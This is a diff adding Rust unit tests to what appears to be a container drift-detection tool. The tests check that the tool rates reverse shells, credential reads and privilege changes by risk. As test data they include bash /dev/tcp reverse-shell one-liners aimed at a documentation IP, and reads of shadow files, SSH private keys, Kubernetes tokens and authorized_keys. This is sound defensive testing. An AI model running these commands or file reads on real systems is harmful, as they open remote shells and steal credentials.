@@ -716,3 +716,154 @@ fn one_busybox_is_many_programs() {
     let v = judge(&b, &c, &see(&c, 2, &under_nginx, call("-ash")));
     assert_eq!(v.drifts[0].class, DriftClass::ShellUnderServer);
 }
+
+#[test]
+fn a_log_that_was_not_there_before_is_not_emptied_by_being_made() {
+    const WRITE_CREATE_TRUNCATE: u32 = 0o1101;
+    let sh = who(&["/bin/sh", NGINX]);
+    let open = |op| match file(op, "/var/log/auth.log", Origin::Upper) {
+        EventKind::File(mut f) => {
+            f.flags = WRITE_CREATE_TRUNCATE;
+            EventKind::File(f)
+        }
+        other => other,
+    };
+    assert_eq!(
+        class_of(&sh, open(FileOp::Write)).0,
+        DriftClass::TracesRemoved
+    );
+    assert_ne!(
+        class_of(&sh, open(FileOp::Create)).0,
+        DriftClass::TracesRemoved
+    );
+}
+
+#[test]
+fn a_health_check_of_the_container_by_its_own_shell_is_none_of_a_reverse_shell() {
+    let sh = who(&["/bin/bash", "/bin/sh"]);
+    let dup = |peer: &str| {
+        let peer: std::net::SocketAddr = peer.parse().expect("an address");
+        EventKind::Dup {
+            stream: 0,
+            target: DupTarget::Inet,
+            peer: Some(SockAddr::Inet(peer.ip(), peer.port())),
+        }
+    };
+    let streams = DriftClass::StreamsOnSocket;
+    assert_eq!(
+        class_of(&sh, dup("127.0.0.1:9000")),
+        (streams, Risk::Medium)
+    );
+    assert_eq!(
+        class_of(&sh, dup("192.0.2.1:9000")),
+        (streams, Risk::Critical)
+    );
+    // nobody checks health through an interpreter's standard input
+    let python = who(&["/usr/bin/python3.11", "/bin/sh"]);
+    assert_eq!(
+        class_of(&python, dup("127.0.0.1:9000")),
+        (streams, Risk::Critical)
+    );
+    let dials = |command: &str| {
+        let v = verdict(&sh, run_args("/bin/bash", &["-c", command]));
+        let high =
+            |d: &plimsoll_model::Drift| d.class == DriftClass::NewArguments && d.risk == Risk::High;
+        v.drifts.iter().any(high)
+    };
+    assert!(!dials("exec 3<>/dev/tcp/127.0.0.1/9000; cat <&3"));
+    assert!(!dials("exec 3<>/dev/tcp/localhost/9000; cat <&3"));
+    assert!(dials(
+        "</dev/tcp/127.0.0.1/1; sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"
+    ));
+    assert!(dials("sh -i >& /dev/tcp/127.0.0.1.example.com/4444 0>&1"));
+}
+
+#[test]
+fn a_directory_of_the_hosts_mounted_under_its_own_name_is_the_hosts() {
+    let mut c = container("x", 0);
+    c.mounts = vec!["/host/etc".into(), "/etc/passwd".into(), "/data".into()];
+    let b = fresh(&c);
+    let sh = who(&["/bin/cat", "/bin/sh"]);
+    let class = |path: &str| {
+        let seen = see(&c, 500, &sh, file(FileOp::Read, path, Origin::Volume));
+        judge(&b, &c, &seen).drifts.first().map(|d| d.class)
+    };
+    assert_eq!(class("/host/etc/shadow"), Some(DriftClass::HostControlFile));
+    assert_ne!(class("/etc/passwd"), Some(DriftClass::HostControlFile));
+    assert_ne!(class("/data/x"), Some(DriftClass::HostControlFile));
+}
+
+#[test]
+fn a_daily_act_that_touches_what_attackers_touch_stays_below_an_error() {
+    let c = container("x", 0);
+    let b = fresh(&c);
+    let risk = |who: &Who, kind| {
+        let v = judge(&b, &c, &see(&c, 500, who, kind));
+        v.drifts.iter().map(|d| d.risk).max().unwrap_or(Risk::Low)
+    };
+    let ps = who(&["/usr/bin/ps", "/bin/sh"]);
+    assert_eq!(risk(&ps, read("/proc/1/environ")), Risk::Low);
+    let cat = who(&["/usr/bin/cat", "/bin/sh"]);
+    assert_eq!(risk(&cat, read("/proc/1/environ")), Risk::Medium);
+    let find = who(&["/usr/bin/find", "/bin/sh"]);
+    let list = |path| file(FileOp::List, path, Origin::Image);
+    assert_eq!(risk(&find, list("/root/.ssh")), Risk::Medium);
+    assert_eq!(risk(&find, read("/root/.ssh/id_rsa")), Risk::High);
+    let openssl = who(&["/usr/bin/openssl", "/bin/sh"]);
+    let renewed = "/etc/letsencrypt/archive/x/privkey1.pem";
+    // learned, and worth a look once the image is known
+    assert_eq!(risk(&openssl, write(renewed)), Risk::Low);
+    let later = class_of(&openssl, write(renewed));
+    assert_eq!(later, (DriftClass::PersistenceWrite, Risk::Medium));
+    assert_eq!(
+        risk(&openssl, write("/root/.ssh/authorized_keys")),
+        Risk::High
+    );
+    let start = who(&["/bin/bash"]);
+    assert_eq!(risk(&start, read("/run/secrets/password")), Risk::Low);
+    assert_eq!(risk(&cat, read("/run/secrets/password")), Risk::Low);
+    let token = "/run/secrets/kubernetes.io/serviceaccount/token";
+    assert_eq!(risk(&cat, read(token)), Risk::Medium);
+    let back = |exe, uid| {
+        let mut who = who(&[exe, "/bin/sh"]);
+        who.uid = uid;
+        let back = EventKind::Credentials {
+            old_uid: 65_534,
+            new_uid: 0,
+            old_caps: 0,
+            new_caps: 0,
+        };
+        risk(&who, back)
+    };
+    assert_eq!(back("/usr/bin/su", 0), Risk::Low);
+    assert_eq!(back("/usr/bin/su", 1000), Risk::High);
+    assert_eq!(back("/opt/x", 0), Risk::High);
+}
+
+#[test]
+fn what_is_said_of_an_act_is_true_of_it() {
+    let cat = who(&["/bin/cat", "/bin/sh"]);
+    let disk = file(FileOp::Failed, "/dev/vda", Origin::Unknown);
+    let v = verdict(&cat, disk);
+    assert_eq!(only_drift(&v).class, DriftClass::HostControlFile);
+    let v = verdict(&cat, dropped("/bin/dash", Origin::Foreign));
+    let foreign = v
+        .drifts
+        .iter()
+        .find(|d| d.class == DriftClass::ProgramFromWritable);
+    let reason = &foreign.expect("it alerts").reason;
+    assert!(!reason.to_string().contains("came into"), "{reason}");
+    // a peer is named, so that somebody can look for it
+    let peer = Some(SockAddr::Inet([192, 0, 2, 1].into(), 4444));
+    let dup = EventKind::Dup {
+        stream: 0,
+        target: DupTarget::Inet,
+        peer,
+    };
+    assert!(
+        only_drift(&verdict(&cat, dup))
+            .reason
+            .to_string()
+            .contains("192.0.2.1:4444")
+    );
+}
